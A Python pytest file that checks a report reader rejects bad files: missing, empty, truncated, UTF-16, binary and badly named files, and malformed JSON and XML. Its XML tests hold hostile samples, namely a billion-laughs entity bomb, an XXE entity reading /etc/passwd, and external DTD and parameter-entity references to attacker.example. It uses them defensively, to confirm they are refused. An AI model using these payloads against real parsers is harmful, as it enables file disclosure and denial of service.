"""Every way a report file can be bad: one line naming the file and the problem, never a
traceback, never an exception outside the clearance tree."""

from __future__ import annotations

import os
import re
import tempfile
from pathlib import Path

import pytest

from clearance.errors import Error, EvidenceFormatError, InputError, NotFoundError
from clearance.evidence import read_report

from .conftest import unprivileged

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<testsuites><testsuite name="&lol9;"/></testsuites>
"""
XXE = """<?xml version="1.0"?>
<!DOCTYPE testsuites [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<testsuites><testsuite name="&xxe;"/></testsuites>
"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE testsuites SYSTEM "http://attacker.example/evil.dtd">
<testsuites/>
"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE testsuites [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<testsuites/>
"""


def write(tmp_path: Path, name: str, content: bytes | str) -> Path:
    path = tmp_path / name
    if isinstance(content, str):
        content = content.encode("utf-8")
    path.write_bytes(content)
    return path


def refused(path: Path, error: type[Error], pattern: str) -> Error:
    """Reading ``path`` raises ``error``: one line, naming the file, matching ``pattern``."""
    with pytest.raises(error, match=re.escape(str(path)) + ": " + pattern) as caught:
        read_report(path)
    assert "\n" not in str(caught.value)
    assert caught.value.where == str(path)
    return caught.value


class TestFiles:
    def test_missing(self, tmp_path: Path) -> None:
        refused(tmp_path / "nope.xml", NotFoundError, "no such file")

    def test_parent_is_a_file(self, tmp_path: Path) -> None:
        write(tmp_path, "file", "x")
        refused(tmp_path / "file" / "report.xml", NotFoundError, "no such file")

    def test_directory(self, tmp_path: Path) -> None:
        error = refused(tmp_path, InputError, "is a directory, not a file")
        assert not isinstance(error, EvidenceFormatError)

    def test_fifo(self, tmp_path: Path) -> None:
        fifo = tmp_path / "pipe"
        os.mkfifo(fifo)
        refused(fifo, InputError, "is not a regular file")

    def test_permission_denied(self) -> None:
        with tempfile.TemporaryDirectory() as folder:
            os.chmod(folder, 0o755)
            path = write(Path(folder), "secret.xml", "<testsuites/>")
            path.chmod(0)
            with unprivileged():
                refused(path, InputError, "cannot read: permission denied")

    def test_empty(self, tmp_path: Path) -> None:
        refused(write(tmp_path, "empty.xml", b""), EvidenceFormatError, "the file is empty")

    def test_whitespace_only(self, tmp_path: Path) -> None:
        path = write(tmp_path, "blank.json", b"\xef\xbb\xbf \n\t\r\n")
        refused(path, EvidenceFormatError, "the file holds only whitespace")


class TestJson:
    def test_truncated(self, tmp_path: Path, bandit_reports: dict[str, Path]) -> None:
        data = bandit_reports["risky"].read_bytes()
        path = write(tmp_path, "cut.sarif", data[: len(data) // 2])
        refused(
            path, EvidenceFormatError, "truncated JSON: the file ends before the JSON document does"
        )

    def test_truncated_after_detection_decided(self, tmp_path: Path) -> None:
        path = write(tmp_path, "cut.json", '{"bomFormat": "CycloneDX", "components": [{"name": "a"')
        refused(path, EvidenceFormatError, "truncated JSON")

    def test_trailing_garbage(self, tmp_path: Path) -> None:
        path = write(tmp_path, "two.json", '{"passed": true} {"passed": false}')
        refused(path, EvidenceFormatError, r"invalid JSON: parse error: trailing garbage")

    def test_lexical_error_shows_where(self, tmp_path: Path) -> None:
        path = write(tmp_path, "bad.json", '{"passed": true, "n": NaN}')
        refused(
            path,
            EvidenceFormatError,
            r"invalid JSON: lexical error: invalid char in json text\. near '.*NaN",
        )

    def test_invalid_utf8_inside_a_string(self, tmp_path: Path) -> None:
        path = write(tmp_path, "latin.json", b'{"passed": true, "who": "Jos\xe9"}')
        refused(
            path, EvidenceFormatError, "invalid JSON: lexical error: invalid bytes in UTF8 string"
        )

    def test_utf16(self, tmp_path: Path) -> None:
        path = write(tmp_path, "wide.json", '{"passed": true}'.encode("utf-16"))
        refused(path, EvidenceFormatError, "the file is UTF-16 encoded; reports must be UTF-8")

    def test_top_level_scalar(self, tmp_path: Path) -> None:
        refused(write(tmp_path, "n.json", "42"), EvidenceFormatError, "not a recognised report")

    def test_deep_nesting_is_just_skipped(self, tmp_path: Path) -> None:
        path = write(
            tmp_path, "deep.json", '{"passed": true, "x": ' + "[" * 100_000 + "]" * 100_000 + "}"
        )
        assert read_report(path).passed

    def test_deep_nesting_truncated(self, tmp_path: Path) -> None:
        path = write(tmp_path, "deep.json", "[" * 100_000)
        refused(path, EvidenceFormatError, "not a recognised report")


class TestXml:
    def test_malformed_gives_line_and_column(self, tmp_path: Path) -> None:
        path = write(tmp_path, "bad.xml", '<testsuites>\n  <testcase name="a">\n</testsuites>\n')
        refused(path, EvidenceFormatError, "malformed XML at line 3, column 3: mismatched tag")

    def test_truncated(self, tmp_path: Path, junit_from_pytest: Path) -> None:
        data = junit_from_pytest.read_bytes()
        path = write(tmp_path, "cut.xml", data[: len(data) // 2])
        refused(path, EvidenceFormatError, r"malformed XML at line \d+, column \d+: ")

    def test_not_well_formed_before_the_root(self, tmp_path: Path) -> None:
        path = write(tmp_path, "bad.xml", "<<testsuites/>")
        refused(path, EvidenceFormatError, "malformed XML at line 1, column 2: not well-formed")

    def test_billion_laughs(self, tmp_path: Path) -> None:
        path = write(tmp_path, "lol.xml", BILLION_LAUGHS)
        refused(
            path,
            EvidenceFormatError,
            r"refused: DTDs and entities are forbidden in reports \(found <!DOCTYPE lolz>\)",
        )

    def test_external_entity(self, tmp_path: Path) -> None:
        refused(
            write(tmp_path, "xxe.xml", XXE),
            EvidenceFormatError,
            "refused: DTDs and entities are forbidden",
        )

    def test_external_dtd(self, tmp_path: Path) -> None:
        path = write(tmp_path, "dtd.xml", EXTERNAL_DTD)
        refused(path, EvidenceFormatError, "refused: DTDs and entities are forbidden")

    def test_parameter_entity(self, tmp_path: Path) -> None:
        path = write(tmp_path, "pe.xml", PARAMETER_ENTITY)
        refused(path, EvidenceFormatError, "refused: DTDs and entities are forbidden")

    def test_undeclared_entity(self, tmp_path: Path) -> None:
        path = write(tmp_path, "ent.xml", '<testsuites><testsuite name="&xxe;"/></testsuites>')
        refused(path, EvidenceFormatError, "malformed XML at line 1, column 13: undefined entity")

    def test_root_after_junk(self, tmp_path: Path) -> None:
        path = write(tmp_path, "two.xml", "<testsuite/><testsuite/>")
        refused(
            path,
            EvidenceFormatError,
            "malformed XML at line 1, column 13: junk after document element",
        )


class TestGarbage:
    def test_binary(self, tmp_path: Path) -> None:
        path = write(tmp_path, "blob.bin", bytes(range(128, 256)) * 4)
        refused(
            path,
            EvidenceFormatError,
            r"not a recognised report \(JUnit XML, SARIF 2\.1\.0, .*\) \(it starts with",
        )

    def test_plain_text(self, tmp_path: Path) -> None:
        path = write(tmp_path, "notes.txt", "all tests passed, promise\n")
        refused(path, EvidenceFormatError, "not a recognised report")


class TestNames:
    def test_nul_byte_in_the_path(self, tmp_path: Path) -> None:
        path = tmp_path / "a\0b.json"
        with pytest.raises(InputError, match="not a usable file name: embedded null byte"):
            read_report(path)

    def test_name_too_long(self, tmp_path: Path) -> None:
        refused(tmp_path / ("x" * 300), InputError, "cannot read: File name too long")


class TestOneLine:
    def test_keys_with_newlines_are_escaped_in_hints(self, tmp_path: Path) -> None:
        path = write(tmp_path, "nl.json", '{"line\\nbreak": 1}')
        refused(
            path,
            EvidenceFormatError,
            r"not a recognised report .* \(top-level keys: line\\nbreak\)",
        )

    def test_deep_paths(self, tmp_path: Path) -> None:
        doc = '{"bomFormat": "CycloneDX", "components": [{"licenses": [{"license": {"id": 1}}]}]}'
        refused(
            write(tmp_path, "c.json", doc),
            EvidenceFormatError,
            r"components\[0\]\.licenses\[0\]\.license\.id: expected a string, found a number",
        )
